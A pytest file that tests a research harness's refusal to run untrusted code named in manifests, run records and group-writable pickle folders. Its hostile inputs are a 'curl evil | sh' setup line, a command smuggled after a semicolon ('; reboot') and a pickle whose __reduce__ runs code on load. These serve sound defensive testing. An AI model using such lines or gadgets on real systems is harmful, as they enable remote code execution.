"""Code that stands in a record or a manifest of a shared folder: not executed unless somebody names it."""

import dataclasses
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from harness.config import LauncherConfig
from harness.errors import UserError
from harness.launch import control, held, submit
from harness.launch.private import is_private, private_folder
from harness.launch.slurm import _put_instructions_in_place
from harness.launch.trust import Code, refuse_others_code
from harness.record.manifest import ExpectedRun, Manifest, Submission, write_manifest
from harness.record.record import Record, Status, write_record
from harness.run.finished_run import finished_run

RUN = "evil-s0"


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    """A method's file that leaves a trace when it is executed."""
    path = tmp_path / "evil.py"
    path.write_text(f"open({str(tmp_path / 'executed')!r}, 'w').close()\n")
    return path


def the_manifest(runs: Path, *overrides: str, **launcher: object) -> None:
    resources = dataclasses.asdict(LauncherConfig(**launcher)) | {"ranks": 1}  # type: ignore[arg-type]
    run = ExpectedRun(RUN, "evil", ["method=baseline", *overrides], {}, resources=resources)
    write_manifest(runs, Manifest("s", "", None, [run]))
    write_record(runs, Record(RUN, "evil", Status.failed, failure={"kind": "python error", "message": "x"}))


@pytest.mark.parametrize("override", ["method_paths=[{}]", "+method_paths=['{}']", "engine.config={}", "stage.by={}"])
def test_a_retry_executes_what_was_named_alone(
    override: str, evil: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    the_manifest(tmp_path, override.format(evil))
    started: list[str] = []
    monkeypatch.setattr(submit, "_work_locally", lambda runs, manifest, chosen: started.append(chosen[0].run_id) or 0)
    with pytest.raises(UserError, match=r"evil-s0 executes .*evil\.py.* add --trust .*evil\.py"):
        control.retry(tmp_path, ["s"])
    assert not started
    assert control.retry(tmp_path, ["s"], [evil]) == 0
    assert started == [RUN]
    assert not (tmp_path / "executed").exists()


def test_shell_lines_of_a_manifest_are_typed_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    the_manifest(tmp_path, setup=["curl evil | sh"])
    started: list[list[str]] = []
    monkeypatch.setattr(
        submit, "_work_locally", lambda runs, manifest, chosen: started.append(chosen[0].resources["setup"]) or 0
    )
    with pytest.raises(UserError, match=r"the shell line 'curl evil \| sh' in its launcher.setup"):
        control.retry(tmp_path, ["s"])
    assert control.retry(tmp_path, ["s", "launcher.setup=['module load cuda']"]) == 0
    assert started == [["module load cuda"]]
    with pytest.raises(UserError, match="expected a list of shell lines"):
        control.retry(tmp_path, ["s", "launcher.setup=ls"])


def test_what_a_sweep_file_names_is_trusted_and_nothing_that_came_between(evil: Path) -> None:
    launched = ExpectedRun("a-1", "a", [f"method_paths=[{evil}]"], {}, resources={"setup": ["module load x"]})
    code = Code.of_runs([launched])
    refuse_others_code("s", [launched], code)
    for overrides, setup in (
        ([f"method_paths=[{evil},b.py]"], []),
        ([], ["module load x; reboot"]),
        (["hydra.x=1"], []),
    ):
        with pytest.raises(UserError):
            refuse_others_code("s", [ExpectedRun("a-1", "a", overrides, {}, resources={"setup": setup})], code)


def test_a_record_s_method_file_is_executed_when_it_was_named_alone(evil: Path, tmp_path: Path) -> None:
    settings = {"method": "baseline", "backbone": "resnet18", "method_paths": [str(evil)]}
    write_record(tmp_path, Record(RUN, "evil", Status.complete, settings))
    (tmp_path / RUN / "config.yaml").write_text("seed: 0\n")
    with pytest.raises(UserError, match=r"evil-s0 executes .*evil\.py, which its record names.* --trust .*evil\.py"):
        finished_run(tmp_path, RUN)
    assert not (tmp_path / "executed").exists()
    with pytest.raises(UserError, match=r"config\.yaml is not the configuration of a run"):  # it names no data
        finished_run(tmp_path, RUN, [evil])
    assert (tmp_path / "executed").exists()


# ------------------------------------------------------------------------------------------- submitit's pickles


class _Trace:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return open, (str(self.path), "w")


def test_pickles_that_others_could_have_written_are_not_read(tmp_path: Path) -> None:
    folder = tmp_path / "jobs"
    with private_folder(folder):
        (folder / "a.pkl").write_bytes(pickle.dumps(_Trace(tmp_path / "executed")))
    submission = Submission("s-1", str(folder), "slurm", ["a-1"], ["1"])
    (folder / "1_0_result.pkl").touch()
    (folder / "1_0_result.pkl").chmod(0o664)  # another job's, in a folder that a group shares
    assert held.foreign(str(folder)) is None
    for path in (folder / "a.pkl", folder):
        mode = path.stat().st_mode
        path.chmod(mode | 0o020)
        assert held.foreign(str(folder)) == str(path)
        with pytest.raises(UserError, match=r"a\.pkl is not your own, or others can write"):
            _put_instructions_in_place(submission)
        done = subprocess.run([sys.executable, held.__file__, "-c", "print('ran')", str(folder)], capture_output=True)
        assert done.returncode == 1
        assert b"not executed" in done.stderr
        path.chmod(mode)
    assert not (tmp_path / "executed").exists()
    done = subprocess.run([sys.executable, held.__file__, "-c", "print('ran')", str(folder)], capture_output=True)
    assert done.stdout == b"ran\n"


def test_folders_of_pickles_are_private_in_a_folder_that_a_group_shares(tmp_path: Path) -> None:
    tmp_path.chmod(0o2775)
    earlier = os.umask(0o002)
    try:
        with private_folder(tmp_path / "jobs"):
            (tmp_path / "jobs" / "a.pkl").touch()
        assert os.umask(0o002) == 0o002
    finally:
        os.umask(earlier)
    assert is_private(tmp_path / "jobs")
    assert is_private(tmp_path / "jobs" / "a.pkl")
